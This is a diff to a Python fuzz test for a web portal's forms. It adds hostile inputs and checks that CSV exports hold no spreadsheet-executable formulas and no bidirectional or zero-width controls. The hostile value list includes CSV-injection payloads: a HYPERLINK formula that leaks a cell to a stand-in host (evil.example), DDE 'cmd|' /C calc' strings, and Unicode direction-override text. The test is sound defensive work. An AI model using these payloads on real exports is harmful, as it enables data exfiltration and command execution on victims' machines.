@@ -1,10 +1,15 @@
 """Forms under fire: every form the crawler finds, posted with hostile values, never breaks.
 
-Every answer is one the portal means to give (never a 5xx), and a <script> canary typed into
-any field is never rendered unescaped on any page afterwards.
+Every answer is one the portal means to give (never a 5xx); a filter (a GET form) answers 200
+whatever it is given, extreme and impossible days included; a <script> canary typed into any
+field is never rendered unescaped on any page afterwards; and every CSV export read back holds
+no cell a spreadsheet would run as a formula and no bidirectional or zero-width control.
 """
 
+import csv
+import io
 import re
+import unicodedata
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -37,7 +42,19 @@ HOSTILE = [
     "😀" * 200,
     CANARY,
     "someone@example.org",
+    "0001-01-01",
+    "9999-12-31",
+    "2026-02-30",
+    '=HYPERLINK("https://evil.example/?x="&A1,"Kotor")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\tKotor",
+    "Ko\u202etor\u202c",
+    "Bu\u200bdva\u2066x\u2069\u200d",
 ]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
 ENDS_THE_SESSION = ("/sign-out",)
 LISTINGS = ["/", "/members", "/staff/users", "/staff/audit", "/staff/outbox"]
 CANARY_PAGES = 25
@@ -66,6 +83,7 @@ VALID_BY_KIND = {
     "email": "fuzz{n}@example.org",
     "password": "fuzz-password-{n}-long",
     "date": "2026-03-01",
+    "url": "https://fuzz{n}.example.org",
 }
 
 
@@ -75,6 +93,8 @@ def _valid(form, name, n: int) -> str:
     choices = [choice for choice in form.fields[name] if choice]
     if kind in VALID_BY_KIND:
         return VALID_BY_KIND[kind].format(n=n)
+    if name.endswith(("url", "website")) and not choices:  # typed as text: only https:// passes
+        return VALID_BY_KIND["url"].format(n=n)
     if choices:
         return choices[0]
     return f"fuzz{n}"
@@ -101,6 +121,26 @@ def _html(visit) -> bool:
     return "text/html" in visit.headers.get("Content-Type", "")
 
 
+def _csv_cells(app, client) -> list[str]:
+    """Every cell of every CSV export the client may read."""
+    cells = []
+    for rule in app.url_map.iter_rules():
+        if rule.rule.endswith(".csv") and not rule.arguments:
+            response = client.get(rule.rule)
+            if response.status_code == 200:
+                rows = csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
+                cells += [cell for row in rows for cell in row]
+    return cells
+
+
+def _runs_in_a_spreadsheet(cell: str) -> bool:
+    return cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
+
+
+def _hides_its_direction(cell: str) -> bool:
+    return any(unicodedata.category(ch) == "Cf" for ch in cell)
+
+
 @pytest.mark.parametrize("role", list(ROLES))
 def test_every_form_survives_hostile_input(app, client, demo_data, figure, role):
     email = ROLES[role]
@@ -112,8 +152,7 @@ def test_every_form_survives_hostile_input(app, client, demo_data, figure, role)
     signed_in()
     forms = _forms(app, crawl(client, ["/", *status_pages(app)], "en"), role)
     assert forms, f"the crawler found no form for {role}"
-    submissions = []
-    token = {}
+    submissions, token, cells = [], {}, set()
 
     def submit(form, payload, with_token=True):
         action = form.action or form.page.split("?", 1)[0]
@@ -128,6 +167,8 @@ def test_every_form_survives_hostile_input(app, client, demo_data, figure, role)
         submissions.append(action)
         html = response.get_data(as_text=True)
         assert response.status_code in ANSWERS, f"{action} {payload!r:.300}: {response.status_code}"
+        if form.method == "get" and not any("\x00" in value for value in payload.values()):
+            assert response.status_code == 200, f"the filter {action} {payload!r:.300}"
         assert "Traceback" not in html
         assert CANARY not in html, f"{action} echoed the canary unescaped"
         if CANARY in payload.values() and response.status_code == 302:
@@ -136,6 +177,8 @@ def test_every_form_survives_hostile_input(app, client, demo_data, figure, role)
             pages = crawl(client, starts, "en", max_pages=CANARY_PAGES)
             shown = [visit.url for visit in pages if _html(visit) and CANARY in visit.html]
             assert shown == [], f"the canary posted to {action} shows unescaped on {shown}"
+        if response.status_code == 302 and any(map(_runs_in_a_spreadsheet, payload.values())):
+            cells.update(_csv_cells(app, client))  # what a spreadsheet would open next
         if email and response.status_code == 302 and "/sign-in" in response.headers["Location"]:
             token.clear()
             signed_in()
@@ -162,10 +205,17 @@ def test_every_form_survives_hostile_input(app, client, demo_data, figure, role)
         submit(form, payload, with_token=data.draw(st.booleans(), label="with the CSRF token"))
 
     fire()
+    cells.update(_csv_cells(app, client))
     pages = crawl(client, ["/"], "en")
     echoed = [visit.url for visit in pages if _html(visit) and CANARY in visit.html]
-    figure(f"fuzz {role}: {len(submissions)} submissions to {len(forms)} forms")
+    neutralised = [cell for cell in cells if _runs_in_a_spreadsheet(cell[1:])]
     assert echoed == []
+    assert [cell for cell in cells if _runs_in_a_spreadsheet(cell)] == []
+    assert [cell for cell in cells if _hides_its_direction(cell)] == []
+    figure(
+        f"fuzz {role}: {len(submissions)} submissions to {len(forms)} forms; "
+        f"{len(cells)} distinct CSV cells read back, {len(neutralised)} formulas neutralised"
+    )
     assert all(
         re.search(r"<html lang=\"en\">", visit.html)
         for visit in pages
